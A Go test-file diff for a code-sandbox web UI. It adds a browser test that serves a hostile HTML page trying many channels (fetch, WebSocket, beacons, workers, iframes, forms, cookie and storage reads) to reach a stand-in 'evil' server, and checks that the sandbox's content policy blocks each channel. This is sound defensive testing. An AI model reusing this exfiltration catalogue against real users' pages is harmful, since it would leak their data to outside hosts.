@@ -2,12 +2,18 @@ package webui
 
 import (
 	"fmt"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
 	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/broker/netlog"
 	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/browser"
+	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/must"
 	"github.com/code-sandbox-mcp/code-sandbox-mcp/internal/test/should"
 	"github.com/code-sandbox-mcp/code-sandbox-mcp/sandbox"
 	"github.com/code-sandbox-mcp/code-sandbox-mcp/sandbox/runs"
@@ -19,9 +25,8 @@ func TestThePageInChromium(t *testing.T) {
 	s := serve(t, Options{})
 	s.finish(s.manager, "mine", hostile)
 	s.finish(s.manager, "other", "1")
-	if _, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "input/given.csv", Content: strings.NewReader("")}); err != nil {
-		t.Fatal(err)
-	}
+	_, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "input/given.csv", Content: strings.NewReader("")})
+	must.Hold(t, err == nil, "%v", err)
 	s.network.Add(netlog.Entry{Time: time.Now(), Session: "mine", Kind: "proxy", Host: markup, Rule: markup})
 	run := s.begin(s.manager, "mine", "import time\nprint('<b>so</b> ' + 'far', flush=True)\ntime.sleep(600)")
 
@@ -67,26 +72,20 @@ func TestThePageInChromium(t *testing.T) {
 	p.Await("document.querySelector('#closing').open")
 	p.Press("Escape")
 	p.Await("!document.querySelector('#closing').open")
-	if !s.isOpen("mine") {
-		t.Fatal("the session was closed")
-	}
+	must.Hold(t, s.isOpen("mine"), "the session was closed")
 	p.Press("Enter")
 	p.Await("document.querySelector('#closing').open && document.activeElement.value === ''")
 	p.TabTo("e.value === 'remove'")
 	p.Press("Enter")
 	p.Await("document.querySelectorAll('nav li').length === 1 && document.querySelector('#session').hidden")
-	if s.isOpen("mine") {
-		t.Error("the session is not closed")
-	}
+	should.Hold(t, !s.isOpen("mine"), "the session is not closed")
 
 	if p.See("fetch('http://127.0.0.1:1/').then(() => 'loaded', () => 'refused')") != "refused" ||
 		p.See("(() => { try { document.body.innerHTML = '<i>'; return 'made' } catch { return 'refused' } })()") != "refused" {
 		t.Error("the policy lets a script load from elsewhere, or make markup")
 	}
 	for _, address := range p.Loaded() {
-		if !strings.HasPrefix(address, s.url+"/") && address != "http://127.0.0.1:1/" {
-			t.Errorf("it has loaded %s", address)
-		}
+		should.Hold(t, strings.HasPrefix(address, s.url+"/") || address == "http://127.0.0.1:1/", "it has loaded %s", address)
 	}
 	for _, text := range p.Said() {
 		if !strings.Contains(text, "favicon.ico") && !strings.Contains(text, "404") && !strings.Contains(text, "127.0.0.1:1/") && !strings.Contains(text, "TrustedHTML") {
@@ -116,9 +115,8 @@ func TestThePageFollowsWhatRuns(t *testing.T) {
 	p.Await(output + "?.textContent.includes('step 199') && " + output + ".scrollTop > 0 && " + output + ".scrollHeight - " + output + ".scrollTop - " + output + ".clientHeight < 10")
 	p.See(output + ".scrollTop = 30")
 	p.See("window.before = " + output)
-	if _, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "go", Content: strings.NewReader("")}); err != nil {
-		t.Fatal(err)
-	}
+	_, _, err := s.manager.Upload(t.Context(), sandbox.Upload{SessionID: "mine", Path: "go", Content: strings.NewReader("")})
+	must.Hold(t, err == nil, "%v", err)
 	p.Await(output + ".textContent.includes('step 300')")
 	should.Equal(t, p.See(output+" === window.before && "+output+".scrollTop === 30"), true, "what was read has moved")
 	run.Interrupt()
@@ -141,23 +139,17 @@ func TestThePageFollowsWhatRuns(t *testing.T) {
 	visible := func(what string) bool {
 		return p.See("document.querySelector('"+what+"').offsetParent !== null") == true
 	}
-	if visible("nav") || !visible("#session") || p.See("document.documentElement.scrollWidth") != 390.0 {
-		t.Error("on a phone a session shares the screen, or does not fit")
-	}
-	if small := p.See("[...document.querySelectorAll('#session button, #runs .copy')].filter(e => e.offsetParent && (e.offsetHeight < 44 || e.offsetWidth < 44)).map(e => e.innerText).join()"); small != "" {
-		t.Errorf("on a phone these are small: %v", small)
-	}
+	should.Hold(t, !visible("nav") && visible("#session") && p.See("document.documentElement.scrollWidth") == 390.0,
+		"on a phone a session shares the screen, or does not fit")
+	small := p.See("[...document.querySelectorAll('#session button, #runs .copy')].filter(e => e.offsetParent && (e.offsetHeight < 44 || e.offsetWidth < 44)).map(e => e.innerText).join()")
+	should.Hold(t, small == "", "on a phone these are small: %v", small)
 	p.See("document.querySelector('.back a').click()")
 	p.Await("document.querySelector('nav').offsetParent !== null")
-	if visible("main") {
-		t.Error("on a phone the list shares the screen")
-	}
+	should.Hold(t, !visible("main"), "on a phone the list shares the screen")
 	p.See("location.hash = '#/%zz'")
 	p.Await("document.querySelector('#none').innerText === 'There is no session %zz now.'")
 	for _, text := range p.Said() {
-		if !strings.Contains(text, "favicon.ico") && !strings.Contains(text, "404") {
-			t.Errorf("the console has %s", text)
-		}
+		should.Hold(t, strings.Contains(text, "favicon.ico") || strings.Contains(text, "404"), "the console has %s", text)
 	}
 }
 
@@ -195,9 +187,7 @@ func TestThePageUndoesARun(t *testing.T) {
 	}
 	for began := time.Now(); canGoBack() == ""; time.Sleep(100 * time.Millisecond) { // in which the kernel makes a copy
 		s.finish(s.manager, "mine", "x = 1")
-		if time.Since(began) > time.Minute {
-			t.Fatal("no run can be undone")
-		}
+		must.Hold(t, time.Since(began) <= time.Minute, "no run can be undone")
 	}
 	run := canGoBack()
 	p.Call("Page.navigate", map[string]any{"url": s.url + "/#/mine"}, nil)
@@ -208,9 +198,7 @@ func TestThePageUndoesARun(t *testing.T) {
 	p.Await(undo)
 	p.See(undo + ".click()")
 	p.Await(item + ".matches('.undone') && " + item + ".querySelector('summary').innerText.includes('undone')")
-	if !runs.UndoneMarks(s.config.StateDir, "mine")[run] {
-		t.Error("the run is not undone")
-	}
+	should.Hold(t, runs.UndoneMarks(s.config.StateDir, "mine")[run], "the run is not undone")
 	should.Equal(t, p.See("document.querySelector('#wrong').textContent"), "", "the page says")
 }
 
@@ -226,9 +214,7 @@ func TestThePageShowsVersions(t *testing.T) {
 		if err == nil && len(versions) > 0 && versions[0].Why == "" && versions[0].Before == run.ID {
 			break
 		}
-		if time.Since(began) > time.Minute {
-			t.Fatalf("there is no version: %+v, %v", versions, err)
-		}
+		must.Hold(t, time.Since(began) <= time.Minute, "there is no version: %+v, %v", versions, err)
 	}
 	p.Call("Page.navigate", map[string]any{"url": s.url + "/#/mine"}, nil)
 	item := "document.querySelector('#run-" + run.ID + "')"
@@ -241,4 +227,137 @@ func TestThePageShowsVersions(t *testing.T) {
 	p.See("document.querySelector('#version-rows button').click()")
 	p.Await("document.querySelector('#difference').textContent === '  same\\n- one\\n+ <b>two</b>\\n  end\\n  \\n'")
 	should.Equal(t, p.See("document.querySelector('#versions-wrong').textContent"), "", "the page says")
+}
+
+// attack tries all ways that a page has to reach a server, or what is around it, and says what it has come to. EVIL is the server.
+const attack = `<!DOCTYPE html>
+<link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload"><link rel=stylesheet href="EVIL/stylesheet">
+<link rel=icon href="EVIL/icon"><link rel=manifest href="EVIL/manifest">
+<base href="EVIL/base/">
+<style>@import url("EVIL/import"); body { background: url("EVIL/background") } @font-face { font-family: f; src: url("EVIL/font") } p { font-family: f }</style>
+<script src="EVIL/script"></script><script src="relative"></script>
+<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["EVIL/speculation"]}]}</script>
+<p>text<img src="EVIL/img"><iframe src="EVIL/iframe"></iframe><iframe srcdoc='<img src="EVIL/srcdoc">'></iframe>
+<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video"></video>
+<form id=form action="EVIL/form" target=other><input name=a></form><a id=link target=_blank href="EVIL/link" ping="EVIL/ping">x</a>
+<canvas></canvas>
+<script>
+const said = {};
+const ways = {
+	fetch: () => fetch("EVIL/fetch", {mode: "no-cors"}),
+	xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open("GET", "EVIL/xhr"); x.send(); }),
+	socket: () => new Promise((done, fail) => { const s = new WebSocket("EVIL/socket".replace("http", "ws")); s.onopen = done; s.onerror = fail; }),
+	events: () => new Promise((done, fail) => { const s = new EventSource("EVIL/events"); s.onopen = done; s.onerror = () => { s.close(); fail(); }; }),
+	beacon: () => { navigator.sendBeacon("EVIL/beacon", "x"); throw 0; }, // what it returns tells nothing
+	image: () => new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = "EVIL/image"; }),
+	module: () => import("EVIL/module"),
+	worker: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker', {mode: 'no-cors'}).then(() => postMessage(1), () => postMessage(0))"])));
+		w.onmessage = m => m.data ? done() : fail(); w.onerror = fail; }),
+	own: () => fetch(OWN, {mode: "no-cors", credentials: "include"}),
+	cookie: () => document.cookie + "x",
+	storage: () => localStorage.length,
+	parent: () => parent === window ? Promise.reject() : parent.document.title,
+	service: () => navigator.serviceWorker.register(location.href),
+	popup: () => open("EVIL/popup") ? "open" : Promise.reject(),
+	form: () => { document.querySelector("#form").submit(); return Promise.reject(); },
+	click: () => { document.querySelector("#link").click(); return Promise.reject(); },
+	top: () => { if (top === window) throw 0; top.location = "EVIL/top"; },
+	drawn: () => { const c = document.querySelector("canvas").getContext("2d"); c.fillRect(0, 0, 1, 1); return eval("c.getImageData(0, 0, 1, 1).data[3]") === 255 || Promise.reject(); },
+};
+Promise.all(Object.entries(ways).map(async ([name, way]) => {
+	try { await way(); said[name] = true; } catch { said[name] = false; }
+})).then(() => {
+	parent.postMessage({said, origin: self.origin}, "*");
+	location = "EVIL/self?" + document.title;
+});
+</script>`
+
+// refreshing leaves by itself.
+const refreshing = `<!DOCTYPE html><meta http-equiv="refresh" content="0; url=EVIL/refresh"><p>text`
+
+// watching notes what comes from frames, and where they were not let to.
+const watching = `window.told = []; addEventListener("message", m => told.push(m.data));
+window.stopped = []; document.addEventListener("securitypolicyviolation", v => stopped.push(v.effectiveDirective));`
+
+// evil is a server that notes what reaches it.
+type evil struct {
+	*httptest.Server
+	mu   sync.Mutex
+	seen map[string]bool
+}
+
+func newEvil(t *testing.T) *evil {
+	e := &evil{seen: make(map[string]bool)}
+	e.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		e.mu.Lock()
+		e.seen[strings.TrimPrefix(r.URL.Path, "/")] = true
+		e.mu.Unlock()
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		if r.URL.Path == "/attack" {
+			w.Header().Set("Content-Type", "text/html")
+			_, _ = fmt.Fprint(w, e.arm(attack))
+		}
+	}))
+	t.Cleanup(e.Close)
+	return e
+}
+
+// arm makes an attack one on this server.
+func (e *evil) arm(page string) string {
+	return strings.NewReplacer("EVIL", e.URL, "OWN", `"/ui/v1/sessions/mine/files"`).Replace(page)
+}
+
+func (e *evil) reached() []string {
+	e.mu.Lock()
+	defer e.mu.Unlock()
+	return slices.Sorted(maps.Keys(e.seen))
+}
+
+func TestPagesOfASessionInChromium(t *testing.T) {
+	p := browser.Open(t)
+	s := serve(t, Options{NoAuth: true})
+	e := newEvil(t)
+	p.Call("Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": watching}, nil)
+
+	// What the attack does where nothing holds it.
+	p.Call("Page.navigate", map[string]any{"url": e.URL + "/attack"}, nil)
+	p.Await("location.pathname === '/self'")
+	free := e.reached()
+	for _, way := range []string{"stylesheet", "import", "background", "font", "script", "base/relative", "img", "srcdoc", "fetch", "xhr", "socket", "events", "beacon", "module", "worker"} {
+		should.Hold(t, slices.Contains(free, way), "the attack does not try %s: %v", way, free)
+	}
+	e.Close()
+	e = newEvil(t)
+
+	for name, page := range map[string]string{"attack.html": attack, "refresh.html": refreshing} {
+		put := sandbox.Upload{SessionID: "mine", Path: "input/" + name, Content: strings.NewReader(e.arm(page))}
+		_, _, err := s.manager.Upload(t.Context(), put)
+		must.Hold(t, err == nil, "%v", err)
+	}
+	s.finish(s.manager, "mine", "import shutil\nfor name in ('attack.html', 'refresh.html'): shutil.copy('input/' + name, 'output')")
+	const over = "told.length === 1 && stopped.filter(d => d === 'frame-src').length === %d"
+	expect := func(where string) {
+		t.Helper()
+		for name, done := range p.See("told[0].said").(map[string]any) {
+			should.Hold(t, done == (name == "drawn"), "%s: %s is %v", where, name, done)
+		}
+		should.Equal(t, p.See("told[0].origin"), "null", "%s: it is of the origin", where)
+		reached := e.reached()
+		should.Hold(t, len(reached) == 0, "%s: it has reached %v", where, reached)
+	}
+	p.Call("Page.navigate", map[string]any{"url": s.url}, nil)
+	p.Await("document.querySelectorAll('#runs iframe').length === 2")
+	p.See("document.querySelectorAll('#runs iframe').forEach(f => { f.loading = 'eager'; })")
+	p.Await(fmt.Sprintf(over, 2))
+	expect("on the page")
+
+	for file, stops := range map[string]string{"attack.html": fmt.Sprintf(over, 1), "refresh.html": "stopped.includes('frame-src')"} {
+		p.Call("Page.navigate", map[string]any{"url": s.url + "/ui/v1/sessions/mine/files/output/" + file}, nil)
+		p.Await("document.title === '" + file + "' && " + stops)
+		if file == "attack.html" {
+			expect("by itself")
+		}
+	}
+	reached := e.reached()
+	should.Hold(t, len(reached) == 0, "by itself: it has reached %v", reached)
 }
